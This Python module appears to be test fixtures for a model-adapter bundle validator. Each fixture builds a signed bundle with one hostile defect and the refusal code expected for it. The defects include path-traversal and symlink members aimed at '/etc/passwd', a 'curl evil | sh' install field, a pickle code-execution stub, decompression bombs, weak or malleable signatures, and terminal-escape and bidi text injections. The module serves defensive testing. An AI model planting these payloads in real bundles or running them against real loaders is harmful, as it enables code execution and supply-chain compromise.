"""The hostile files of docs/bundle.md: each is a good bundle with one thing wrong, signed by whoever means harm.

``HOSTILE`` has (number in the list, name, code of the refusal, bytes). What is wrong below the signature is signed
anew, so that only the check that is meant can see it.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import io
import json
import math
import pickle
import struct
import tarfile
import tempfile
import zipfile
from pathlib import Path

import numpy as np
import zstandard

from nightschool.marketplace import dsse
from nightschool.marketplace.bundle import limits, ustar
from nightschool.schemas.bundle import PAYLOAD_TYPE

from .making import KEY, OTHER, SHAPES, assembled, factors, make, safetensors

HOSTILE: list[tuple[int, str, str, functools.partial]] = []


def hostile(number, code, *arguments, name=""):
    """Add an input to the list."""

    def add(function):
        label = name or function.__name__
        HOSTILE.append((number, label, code, functools.partial(function, *arguments)))
        return function

    return add


def variants(number, *rows):
    """Add several: (code, name, argument)."""

    def add(function):
        for code, name, argument in rows:
            hostile(number, code, argument, name=f"{function.__name__}-{name}")(function)
        return function

    return add


# -- a good one, and its parts ----------------------------------------------------------------------------------------


@functools.cache
def good() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        return make(Path(folder)).read_bytes()


def parts():
    """Return payload and blobs, by role, in order."""
    read = lambda offset, size: good()[offset : offset + size]  # noqa: E731
    members = list(ustar.members(read, len(good())))
    first, *others = (read(member.start, member.size) for member in members)
    payload = json.loads(dsse.open_envelope(first).unverified_payload)
    return payload, dict(zip((row["role"] for row in payload["predicate"]["files"]), others, strict=True))


def raw_files():
    payload, blobs = parts()
    found = {}
    for row in payload["predicate"]["files"]:
        blob = blobs[row["role"]]
        found[row["role"]] = zstandard.ZstdDecompressor().decompress(blob) if row["codec"] == "zstd" else blob
    found["weights"] = safetensors(factors(), metadata={"format": "pt"})
    return found


def tar(members, *, end=ustar.END) -> bytes:
    body = b"".join(ustar.header(name, len(data)) + data + bytes(-len(data) % 512) for name, data in members)
    return body + end


def bundle(payload, blobs, *, keys=(KEY,), envelope=None, kind=PAYLOAD_TYPE) -> bytes:
    data = payload if isinstance(payload, bytes) else json.dumps(payload, ensure_ascii=False).encode()
    signed = dsse.sign(data, kind, list(keys)) if envelope is None else envelope
    named = [(ustar.blob_name(hashlib.sha256(blob).hexdigest()), blob) for blob in blobs.values()]
    return tar([(ustar.MANIFEST_NAME, signed), *named])


def with_file(role, *, raw=None, blob=None, codec="raw", size=None, keep=False, also=None) -> bytes:
    """Return a bundle with another file of a role, listed and signed as if it were right."""
    payload, blobs = parts()
    (row,) = [row for row in payload["predicate"]["files"] if row["role"] == role]
    blob = raw if blob is None else blob
    if raw is not None:
        row.update(raw_size=len(raw), raw_sha256=hashlib.sha256(raw).hexdigest())
    row.update(blob=hashlib.sha256(blob).hexdigest(), blob_size=len(blob))
    if not keep:
        row["codec"] = codec
    if size is not None:
        row["raw_size"] = size
    blobs[role] = blob
    (subject,) = [one for one in payload["subject"] if one["name"] == row["path"]]
    subject["digest"]["sha256"] = row["raw_sha256"]
    if also:
        also(payload["predicate"])
    return bundle(payload, blobs)


def changed(change, **options) -> bytes:
    payload, blobs = parts()
    return bundle(change(payload) or payload, blobs, **options)


def with_text(old: bytes, new: bytes) -> bytes:
    """Return a bundle whose payload has another text in place of one, signed."""
    payload, blobs = parts()
    data = json.dumps(payload).encode()
    assert data.count(old) >= 1
    return bundle(data.replace(old, new, 1), blobs)


# -- container --------------------------------------------------------------------------------------------------------


@hostile(1, "empty")
def empty_file():
    return b""


@variants(2, *(("not-a-bundle", kind, kind) for kind in ("zip", "gzip", "text", "weights")))
def something_else(kind):
    if kind == "zip":
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            archive.writestr("manifest.dsse.json", good())
        return stream.getvalue()
    return {"gzip": b"\x1f\x8b" + good(), "text": b"slot " * 300, "weights": raw_files()["weights"]}[kind]


@hostile(3, "truncated", 200, name="cut-in-the-first-header")
@hostile(3, "truncated", -1024 - 512 - 40, name="cut-before-the-end")
@hostile(4, "truncated", 1500, name="cut-in-the-manifest")
@hostile(4, "truncated", -1024, name="no-end")
@hostile(4, "truncated", -512, name="half-an-end")
def cut(length):
    return good()[:length]


@variants(5, ("trailing", "byte", b"x"), ("trailing", "zeros", bytes(512)), ("trailing", "tar-record", bytes(8192)))
def goes_on(more):
    return good() + more


@hostile(6, "trailing")
def two_joined():
    return good() + good()


@hostile(6, "duplicate-member")
def two_joined_without_an_end():
    return good()[:-1024] + good()


def odd_member(**fields) -> bytes:
    """Return the good archive with an entry of other fields as Python's tarfile writes it after the first."""
    format_ = fields.pop("format", tarfile.USTAR_FORMAT)
    info = tarfile.TarInfo(fields.pop("name", "blobs/sha256/" + "a" * 64))
    for field, value in fields.items():
        setattr(info, field, value)
    return inserted(info.tobuf(format_))


def inserted(block: bytes) -> bytes:
    read = lambda offset, size: good()[offset : offset + size]  # noqa: E731
    first = ustar.first(read)
    return good()[: first.end] + block + good()[first.end :]


@hostile(7, "pax-header")
def pax_header():
    return odd_member(format=tarfile.PAX_FORMAT, pax_headers={"path": "../../evil"})


@hostile(7, "pax-header")
def global_pax_header():
    return odd_member(type=b"g")


@hostile(8, "gnu-name")
def long_name():
    return odd_member(format=tarfile.GNU_FORMAT, name="a/" * 90)


@hostile(9, "sparse")
def sparse():
    return odd_member(type=b"S")


@hostile(9, "sparse")
def base_256_size():
    return odd_member(format=tarfile.GNU_FORMAT, size=1 << 40)


@variants(10, ("symlink", "absolute", "/etc/passwd"), ("symlink", "upwards", "../../x"))
def symbolic_link(target):
    return odd_member(type=b"2", linkname=target)


@hostile(11, "hardlink")
def hard_link():
    return odd_member(type=b"1", linkname="manifest.dsse.json")


@variants(12, *(("special-file", kind.decode(), kind) for kind in (b"3", b"4", b"5", b"6")))
def device(kind):
    return odd_member(type=kind)


@variants(
    13,
    *(
        ("member-name", str(number), name)
        for number, name in enumerate(
            ("../evil", "/etc/cron.d/x", "blobs/sha256/" + "A" * 64, "blobs/../x", "C:\\x", "x\x1b[2J", "con")
        )
    ),
)
def escaping_name(name):
    return inserted(_renamed(name))


def _renamed(name: str) -> bytes:
    block = bytearray(ustar.header("blobs/sha256/" + "a" * 64, 0))
    block[:100] = name.encode().ljust(100, b"\0")
    return _summed(block)


def _summed(block: bytearray) -> bytes:
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


@hostile(13, "member-name")
def prefix_field():
    block = bytearray(ustar.header("blobs/sha256/" + "a" * 64, 0))
    block[345:353] = b"../../x\0"
    return inserted(_summed(block))


@variants(
    14,
    ("metadata", "setuid", {"mode": 0o4755}),
    ("metadata", "mtime", {"mtime": 1}),
    ("metadata", "uid", {"uid": 1000}),
    ("metadata", "owner", {"uname": "root"}),
)
def told_more(fields):
    return odd_member(**{"mode": 0o644, **fields})


@hostile(14, "header")
def wrong_checksum():
    block = bytearray(ustar.header("blobs/sha256/" + "a" * 64, 0))
    block[150] ^= 1
    return inserted(bytes(block))


@hostile(14, "padding")
def hidden_in_the_padding():
    data = bytearray(good())
    first = ustar.first(lambda offset, size: bytes(data[offset : offset + size]))
    data[first.end - 1] = 7
    return bytes(data)


@hostile(15, "duplicate-member")
def twice():
    payload, blobs = parts()
    named = [(ustar.blob_name(hashlib.sha256(blob).hexdigest()), blob) for blob in blobs.values()]
    return tar([(ustar.MANIFEST_NAME, dsse.sign(json.dumps(payload).encode(), PAYLOAD_TYPE, [KEY])), *named, named[0]])


@hostile(15, "duplicate-member")
def two_manifests():
    member = dsse.sign(json.dumps(parts()[0]).encode(), PAYLOAD_TYPE, [KEY])
    return tar([(ustar.MANIFEST_NAME, member), (ustar.MANIFEST_NAME, member)])


@hostile(16, "unlisted-member")
def stowaway():
    payload, blobs = parts()
    return bundle(payload, {**blobs, "more": b"import os"})


@hostile(16, "unlisted-member")
def a_hundred_stowaways():
    payload, blobs = parts()
    return bundle(payload, {**blobs, **{str(number): b"%d" % number for number in range(100)}})


@hostile(17, "missing-member")
def nothing_but_a_manifest():
    return bundle(parts()[0], {})


@hostile(17, "missing-member")
def manifest_is_not_the_first():
    blob = parts()[1]["card"]
    return tar([(ustar.blob_name(hashlib.sha256(blob).hexdigest()), blob)])


# -- signature --------------------------------------------------------------------------------------------------------


def envelope_with(change) -> bytes:
    payload, blobs = parts()
    envelope = json.loads(dsse.sign(json.dumps(payload).encode(), PAYLOAD_TYPE, [KEY]))
    return bundle(payload, blobs, envelope=json.dumps(change(envelope) or envelope).encode())


@hostile(18, "unsigned")
def no_signature():
    return envelope_with(lambda envelope: envelope.update(signatures=[]))


@hostile(19, "bad-signature")
def signature_of_something_else():
    return envelope_with(lambda envelope: envelope["signatures"][0].update(sig=base64.b64encode(bytes(64)).decode()))


@hostile(19, "bad-signature")
def signed_by_another():
    return changed(lambda payload: None, keys=[OTHER])


@hostile(20, "bad-signature")
def payload_changed():
    def flip(envelope):
        payload = bytearray(base64.b64decode(envelope["payload"]))
        payload[payload.index(b"Captain")] ^= 1
        envelope["payload"] = base64.b64encode(payload).decode()

    return envelope_with(flip)


@hostile(21, "payload-type")
def signed_as_something_else():
    return changed(lambda payload: None, kind="application/vnd.nightschool.publisher+json")


@hostile(22, "threshold")
def one_key_signs_twice():
    payload, blobs = parts()
    payload["predicate"]["publisher"]["keys"].append(OTHER.public.facts())
    payload["predicate"]["publisher"]["threshold"] = 2
    envelope = json.loads(dsse.sign(json.dumps(payload).encode(), PAYLOAD_TYPE, [KEY]))
    envelope["signatures"] *= 2
    return bundle(payload, blobs, envelope=json.dumps(envelope).encode())


@hostile(22, "fields")
def one_key_listed_twice():
    def twice_listed(payload):
        payload["predicate"]["publisher"]["keys"] *= 2
        payload["predicate"]["publisher"]["threshold"] = 2

    return changed(twice_listed)


SMALL_ORDER = [bytes([1, *bytes(31)]), bytes(32), bytes([0xEC, *[0xFF] * 30, 0x7F])]


@variants(23, *(("weak-key", str(number), point) for number, point in enumerate(SMALL_ORDER)))
def key_of_small_order(point):
    payload, blobs = parts()
    payload["predicate"]["publisher"]["keys"] = [{"alg": "ed25519", "public": base64.b64encode(point).decode()}]
    data = json.dumps(payload).encode()
    envelope = json.loads(dsse.sign(data, PAYLOAD_TYPE, [KEY]))
    envelope["signatures"][0]["sig"] = base64.b64encode(bytes([1, *bytes(63)])).decode()
    return bundle(payload, blobs, envelope=json.dumps(envelope).encode())


@hostile(24, "signature-form")
def malleable_signature():
    order = 2**252 + 27742317777372353535851937790883648493

    def add_order(envelope):
        sig = base64.b64decode(envelope["signatures"][0]["sig"])
        high = int.from_bytes(sig[32:], "little") + order
        envelope["signatures"][0]["sig"] = base64.b64encode(sig[:32] + high.to_bytes(32, "little")).decode()

    return envelope_with(add_order)


@hostile(29, "threshold")
def too_few_for_the_threshold():
    def two(payload):
        payload["predicate"]["publisher"].update(threshold=2)
        payload["predicate"]["publisher"]["keys"].append(OTHER.public.facts())

    return changed(two)


@hostile(29, "fields")
def threshold_above_the_keys():
    return changed(lambda payload: payload["predicate"]["publisher"].update(threshold=2))


# -- JSON -------------------------------------------------------------------------------------------------------------


@hostile(30, "json-duplicate")
def key_twice():
    return with_text(b'"predicate": {', b'"predicate": {"format": 1, ')


@hostile(30, "json-duplicate")
def key_twice_in_the_envelope():
    payload, blobs = parts()
    envelope = dsse.sign(json.dumps(payload).encode(), PAYLOAD_TYPE, [KEY])
    return bundle(payload, blobs, envelope=envelope.replace(b'{"payload"', b'{"payload":"","payload"', 1))


@variants(31, *(("json-number", str(n), text) for n, text in enumerate((b"NaN", b"1e999", b"-Infinity", b"7" * 5000))))
def number_that_is_none(text):
    return with_text(b'"steps": 24', b'"steps": ' + text)


@variants(32, ("json-depth", "lists", b"["), ("json-depth", "objects", b'{"a":'))
def deep(opening):
    return with_text(b'"data_note": ""', b'"data_note": ' + opening * 10_000)


@hostile(32, "json-depth")
def deep_envelope():
    return bundle({}, {}, envelope=b"[" * 100_000)


@hostile(33, "json-text")
def bytes_that_are_no_text():
    return with_text(b'"data_note": ""', b'"data_note": "\xff\xfe"')


@hostile(33, "json-text")
def half_a_character():
    return with_text(b'"data_note": ""', b'"data_note": "\\ud800"')


@variants(
    34,
    ("fields", "top", lambda payload: payload.update(more=1)),
    ("fields", "predicate", lambda payload: payload["predicate"].update(install="curl evil | sh")),
    ("fields", "card", lambda payload: payload["predicate"]["card"].update(image="https://evil.example/x.png")),
    ("fields", "missing", lambda payload: payload["predicate"]["card"].pop("license")),
    ("fields", "kind", lambda payload: payload["predicate"]["slot"].update(seq="3")),
    ("fields", "list", lambda payload: [payload]),
    ("fields", "role", lambda payload: payload["predicate"]["files"][0].update(role="code")),
    ("requires", "flag", lambda payload: payload["predicate"].update(requires=["topk-lora"])),
)
def unknown(change):
    return changed(change)


@hostile(34, "subject")
def subject_is_another():
    return changed(lambda payload: payload["subject"][0]["digest"].update(sha256="0" * 64))


@hostile(35, "format")
def newer_format():
    return changed(lambda payload: payload["predicate"].update(format=2))


# -- zstd -------------------------------------------------------------------------------------------------------------


def frame(data: bytes, **options) -> bytes:
    given = {"write_checksum": True, "write_content_size": True, **options}
    return zstandard.ZstdCompressor(**given).compress(data)


BOMB = 64 << 20


@hostile(36, "zstd-size")
def bomb_that_says_so():
    return with_file("card", blob=frame(bytes(BOMB)), codec="zstd")


@hostile(37, "zstd-size")
def bomb_that_does_not():
    stream = zstandard.ZstdCompressor(write_checksum=True).compressobj()
    return with_file("card", blob=stream.compress(bytes(BOMB)) + stream.flush(), codec="zstd")


@hostile(38, "zstd-frame")
def bomb_that_lies():
    """A frame that claims 20 bytes and holds 64 MiB."""
    honest = frame(bytes(BOMB))
    start = zstandard.frame_header_size(honest)
    header = b"\x28\xb5\x2f\xfd" + bytes([0b10000100, 0x58]) + struct.pack("<I", 20)
    return with_file("card", blob=header + honest[start:], codec="zstd", size=20)


@hostile(38, "zstd-frame")
def claims_more_than_it_holds():
    honest = frame(b"Ahoy. " * 50, level=1)
    header = b"\x28\xb5\x2f\xfd" + bytes([0b10000100, 0x58]) + struct.pack("<I", 400)
    return with_file("card", blob=header + honest[zstandard.frame_header_size(honest) :], codec="zstd", size=400)


@hostile(39, "zstd-window")
def window_of_a_gigabyte():
    stream = bytes([0b10000100, (30 - 10) << 3]) + struct.pack("<I", 20)
    block = (1 | 20 << 3).to_bytes(3, "little") + bytes(20)
    return with_file("card", raw=bytes(20), blob=b"\x28\xb5\x2f\xfd" + stream + block + bytes(4), codec="zstd")


@hostile(40, "zstd-dictionary")
def dictionary():
    words = zstandard.ZstdCompressionDict(b"Captain ahoy! " * 64, dict_type=zstandard.DICT_TYPE_RAWCONTENT)
    trained = zstandard.train_dictionary(1024, [b"Captain %d ahoy %d!" % (n, n * n) for n in range(400)])
    assert words and trained.dict_id()
    card = b"Captain 7 ahoy 49! Captain 8 ahoy 64!"
    return with_file("card", raw=card, blob=frame(card, dict_data=trained), codec="zstd")


@variants(
    41,
    ("zstd-frame", "two", lambda card: frame(card) + frame(b"")),
    ("zstd-frame", "skippable-after", lambda card: frame(card) + b"\x50\x2a\x4d\x18" + struct.pack("<I", 4) + b"evil"),
    ("zstd-frame", "skippable-before", lambda card: b"\x50\x2a\x4d\x18" + struct.pack("<I", 4) + b"evil" + frame(card)),
    ("zstd-frame", "trailing", lambda card: frame(card) + b"x"),
    ("zstd-frame", "no-checksum", lambda card: frame(card, write_checksum=False)),
    ("zstd-frame", "nothing", lambda card: b"\x28"),
)
def not_one_frame(make_frame):
    card = b"Ahoy. " * 50
    return with_file("card", raw=card, blob=make_frame(card), codec="zstd")


@hostile(41, "zstd-frame")
def countless_empty_blocks():
    head = b"\x28\xb5\x2f\xfd" + bytes([0b10000100, 0x58]) + struct.pack("<I", 300)
    return with_file("card", blob=head + bytes(3) * 100_000 + b"\x01\0\0" + bytes(4), codec="zstd", size=300)


@variants(42, ("zstd-frame", "checksum", -2), ("zstd-frame", "block", -9), ("zstd-frame", "header", 7))
def cut_frame(length):
    card = b"Ahoy. " * 50
    return with_file("card", raw=card, blob=frame(card)[:length], codec="zstd")


@hostile(42, "zstd-frame")
def flipped_bit_in_a_frame():
    card = bytes(range(256)) * 4
    data = bytearray(frame(card))
    data[-8] ^= 1
    return with_file("card", raw=card, blob=bytes(data), codec="zstd")


def planes(shorter=0, top=None, header_length=None) -> bytes:
    raw = raw_files()["weights"]
    length = int.from_bytes(raw[:8], "little")
    numbers = np.frombuffer(raw, np.uint8, offset=8 + length).reshape(-1, 4)
    low = b"".join(numbers[:, place].tobytes() for place in range(3))
    packed = frame(numbers[:, 3].tobytes()[top:] if top else numbers[:, 3].tobytes())
    said = length if header_length is None else header_length
    return struct.pack("<I", said) + raw[8 : 8 + length] + low[: len(low) - shorter] + packed


@hostile(43, "planes")
def planes_cut_off():
    return with_file("weights", blob=planes()[:2000], keep=True)


@hostile(43, "zstd-frame")
def plane_too_short():
    return with_file("weights", blob=planes(shorter=1), keep=True)


@hostile(43, "zstd-size")
def top_plane_too_short():
    return with_file("weights", blob=planes(top=1), keep=True)


@hostile(43, "weights-header")
def planes_with_a_long_header():
    return with_file("weights", blob=planes(header_length=1 << 30), keep=True)


@hostile(43, "fields")
def planes_of_a_card():
    return with_file("card", raw=b"Ahoy.", codec="stp1")


@hostile(43, "blob-digest")
def blob_changed():
    data = bytearray(good())
    data[-1024 - 600] ^= 1
    return bytes(data)


@hostile(43, "raw-digest")
def unpacks_to_something_else():
    payload, blobs = parts()
    for row in payload["predicate"]["files"]:
        if row["role"] == "card":
            row["raw_sha256"] = "0" * 64
    for row in payload["subject"]:
        if row["name"] == "card.md":
            row["digest"]["sha256"] = "0" * 64
    return bundle(payload, blobs)


# -- weights ----------------------------------------------------------------------------------------------------------

NAME = "base_model.model.model.layers.2.self_attn.q_proj.lora_A.weight"


def header_of_good():
    raw = raw_files()["weights"]
    length = int.from_bytes(raw[:8], "little")
    return json.loads(raw[8 : 8 + length]), raw[8 + length :]


def with_header(change, more=b"") -> bytes:
    rows, data = header_of_good()
    text = change(rows)
    text = json.dumps(rows).encode() if text is None else text
    return with_file("weights", raw=assembled(text, data + more))


@variants(
    44,
    ("weights-header", "gigabytes", struct.pack("<Q", 1 << 62) + b"{}"),
    ("weights-header", "beyond-the-file", struct.pack("<Q", 4000) + b"{}"),
    ("weights-header", "nothing", b"\1"),
    ("weights-header", "leading-space", assembled(b" {}", b"")),
    ("weights-header", "two-mebibytes", struct.pack("<Q", 2 << 20) + b"{}".ljust(2 << 20)),
    ("weights-header", "padding", struct.pack("<Q", 5000) + b"{}".ljust(5000)),
)
def header_of_odd_length(raw):
    return with_file("weights", raw=raw)


@hostile(44, "weights-header")
def metadata():
    return with_header(lambda rows: rows.update(__metadata__={"format": "pt", "note": "exec"}))


@hostile(45, "weights-key")
def tensor_twice():
    def again(rows):
        text = json.dumps(rows).encode()
        return text[:-1] + b"," + json.dumps({NAME: rows[NAME]}).encode()[1:-1] + b"}"

    return with_header(again)


def moved(rows, by):
    rows[NAME]["data_offsets"] = [value + by for value in rows[NAME]["data_offsets"]]


@hostile(46, "weights-layout", 4, b"", name="overlap")
@hostile(46, "weights-layout", 0, bytes(8), name="trailing-junk")
def hole(by, more):
    return with_header(lambda rows: moved(rows, by), more)


@hostile(46, "weights-layout")
def gap():
    def later(rows):
        for name, row in rows.items():
            if name != "__metadata__":
                row["data_offsets"] = [value + 8 for value in row["data_offsets"]]

    rows, data = header_of_good()
    later(rows)
    return with_file("weights", raw=assembled(json.dumps(rows).encode(), bytes(8) + data))


@hostile(46, "weights-layout")
def flood_of_nothing():
    stem = "base_model.model.model.layers.0.q{}_proj.lora_A.weight"
    rows = {stem.format(n): {"dtype": "F32", "shape": [0, 1], "data_offsets": [0, 0]} for n in range(9000)}
    return with_file("weights", raw=assembled(json.dumps(rows, separators=(",", ":")).encode(), b""))


@hostile(46, "weights-layout")
def empty_tensor():
    return with_header(
        lambda rows: rows.update({NAME + "x": {"dtype": "F32", "shape": [0, 3], "data_offsets": [0, 0]}})
    )


@variants(
    47, *(("weights-name", str(n), name) for n, name in enumerate(("a\0b", "a\x1b[2J", "../../x", "", "a" * 300)))
)
def odd_name(name):
    return with_header(lambda rows: rows.update({name: rows.pop(NAME)}))


def weights(change) -> bytes:
    tensors = factors()
    change(tensors)
    return with_file("weights", raw=safetensors(tensors))


@variants(48, *(("weights-number", str(value), value) for value in (math.nan, math.inf, -math.inf)))
def not_a_number(value):
    return weights(lambda tensors: tensors[NAME].__setitem__((1, 3), value))


@hostile(48, "weights-scan")
def enormous():
    return weights(lambda tensors: tensors[NAME].__setitem__((1, 3), 1e30))


@variants(
    49,
    *(
        ("weights-lora", str(n), name)
        for n, name in enumerate(
            (
                "base_model.model.lm_head.weight",
                "base_model.model.model.embed_tokens.modules_to_save.weight",
                "base_model.model.model.layers.2.self_attn.q_proj.lora_A.default.weight",
                "base_model.model.model.layers.2.self_attn.q_proj.lora_magnitude_vector.weight",
                "base_model.model.model.layers.02.self_attn.q_proj.lora_A.weight",
            )
        )
    ),
)
def no_part_of_a_lora(name):
    return weights(lambda tensors: tensors.update({name: np.zeros((2, 2), np.float32)}))


@hostile(49, "weights-lora")
def bias():
    return weights(lambda tensors: tensors.update({NAME.replace("lora_A.weight", "bias"): np.zeros(4, np.float32)}))


@hostile(50, "weights-pair")
def half_a_pair():
    return weights(lambda tensors: tensors.pop(NAME))


@hostile(50, "weights-pair")
def two_ranks():
    def other(tensors):
        tensors[NAME] = np.zeros((2, 32), np.float32)
        tensors[NAME.replace("lora_A", "lora_B")] = np.zeros((32, 2), np.float32)

    return weights(other)


@hostile(50, "config-differs")
def rank_is_not_the_one_that_is_said():
    return with_file("weights", raw=safetensors(factors(rank=8)))


@hostile(51, "base-shape")
def shape_of_another_base():
    shapes = {place: (rows, 64) for place, (rows, _) in SHAPES.items()}
    tensors = factors(shapes=shapes)
    params = sum(values.size for values in tensors.values())
    return with_file("weights", raw=safetensors(tensors), also=lambda said: said["adapter"].update(params=params))


@hostile(51, "base-shape")
def block_that_the_base_does_not_have():
    tensors = factors(shapes={(layer + 10, path): shape for (layer, path), shape in SHAPES.items()})
    config = json.loads(raw_files()["config"])
    first = with_file("config", raw=json.dumps({**config, "layers": [12, 13]}).encode())
    return _second(first, "weights", safetensors(tensors))


def _second(data: bytes, role: str, raw: bytes) -> bytes:
    """Return a bundle with one more file changed."""
    read = lambda offset, size: data[offset : offset + size]  # noqa: E731
    first, *others = (read(member.start, member.size) for member in ustar.members(read, len(data)))
    payload = json.loads(dsse.open_envelope(first).unverified_payload)
    blobs = dict(zip((row["role"] for row in payload["predicate"]["files"]), others, strict=True))
    digest = hashlib.sha256(raw).hexdigest()
    for row in payload["predicate"]["files"]:
        if row["role"] == role:
            row.update(raw_size=len(raw), raw_sha256=digest, blob=digest, blob_size=len(raw), codec="raw")
            next(one for one in payload["subject"] if one["name"] == row["path"])["digest"]["sha256"] = digest
    blobs[role] = raw
    return bundle(payload, blobs)


class Evil:
    def __reduce__(self):
        return print, ("owned",)


@hostile(52, "weights-header")
def pickle_in_disguise():
    return with_file("weights", raw=pickle.dumps(Evil()) + bytes(4000))


# -- configuration and card -------------------------------------------------------------------------------------------


def config_with(**fields) -> bytes:
    config = json.loads(raw_files()["config"])
    return with_file("config", raw=json.dumps({**config, **fields}).encode())


@variants(
    53,
    *(
        ("config-field", name, {name: value})
        for name, value in (
            ("auto_mapping", {"parent_library": "os", "base_model_class": "system"}),
            ("megatron_config", {}),
            ("megatron_core", "evil"),
            ("layer_replication", [[0, 30]]),
            ("corda_config", {"cache_file": "/tmp/x"}),
            ("loftq_config", {}),
            ("init_lora_weights", "pissa"),
            ("modules_to_save", ["lm_head"]),
            ("tokenizer_kwargs", {"trust_remote_code": True}),
            ("rank_pattern", {"(a+)+b": 4}),
            ("base_model_name_or_path", "deleted/name"),
        )
    ),
    ("fields", "bias", {"bias": "all"}),
    ("fields", "task", {"task": "SEQ_CLS"}),
)
def field_of_peft(fields):
    return config_with(**fields)


@variants(
    54,
    ("config-targets", "pattern", "(a+)+b"),
    ("config-targets", "all-linear", "all-linear"),
    ("config-targets", "in-a-list", ["q_proj", "(a+)+b"]),
    ("config-targets", "number", [1]),
    ("config-targets", "nothing", None),
    ("config-differs", "another", ["k_proj", "q_proj"]),
)
def targets(value):
    return config_with(targets=value)


@variants(
    55,
    ("config-rank", "rank", b'"r":1000000'),
    ("config-rank", "negative", b'"r":-1'),
    ("config-rank", "scale", b'"r":4,"alpha":4096.0'),
    ("json-number", "nan", b'"r":4,"alpha":NaN'),
    ("json-number", "infinity", b'"r":4,"alpha":1e999'),
    ("config-differs", "other", b'"r":8'),
)
def rank_or_scale(text):
    config = json.loads(raw_files()["config"])
    rest = {key: value for key, value in config.items() if key != "r" and not (key == "alpha" and b"alpha" in text)}
    return with_file("config", raw=json.dumps(rest).encode()[:-1] + b"," + text + b"}")


@hostile(56, "base-fingerprint")
def same_name_another_base():
    return changed(lambda payload: payload["predicate"]["base"].update(tensor_index_sha256="9" * 64))


@variants(
    57,
    ("text", "markup", "[@click=app.quit]Pirate[/]"),
    ("text", "unclosed", "[/nope]"),
    ("text", "escape", "Pirate\x1b[2J"),
    ("text", "bidi", "Pirate\u202egnp.exe"),
    ("text", "c1", "Pirate\x9b2J"),
    ("text", "lines", "Pirate\nVerified: yes"),
)
def deceiving_title(title):
    return changed(lambda payload: payload["predicate"]["card"].update(title=title))


@variants(
    57,
    ("text", "summary", ("card", "summary")),
    ("text", "base", ("base", "id")),
    ("text", "prompt", ("card", "system_prompt")),
)
def deceiving_text(place):
    return changed(lambda payload: payload["predicate"][place[0]].update({place[1]: "safe\x1b]0;x\x07 \u2066"}))


@variants(57, ("text", "escape", "# Card\x1b[2J"), ("text", "bidi", "# Card \u202e"), ("text", "return", "a\rb"))
def deceiving_card(text):
    return with_file("card", raw=text.encode())


@hostile(57, "json-text")
def card_that_is_no_text():
    return with_file("card", raw=b"\xff\xfe\xfd")


@hostile(58, "card-size")
def long_card():
    return with_file("card", raw=b"a" * (limits.CARD + 1))


@variants(
    65,
    *(
        ("slot-name", name[:9], name)
        for name in ("Captain", "CON", "con", "nul", "com1", "lpt9", "../x", "a/b", "", "-x")
    ),
)
def name_that_no_folder_can_have(name):
    return changed(lambda payload: payload["predicate"]["slot"].update(name=name))
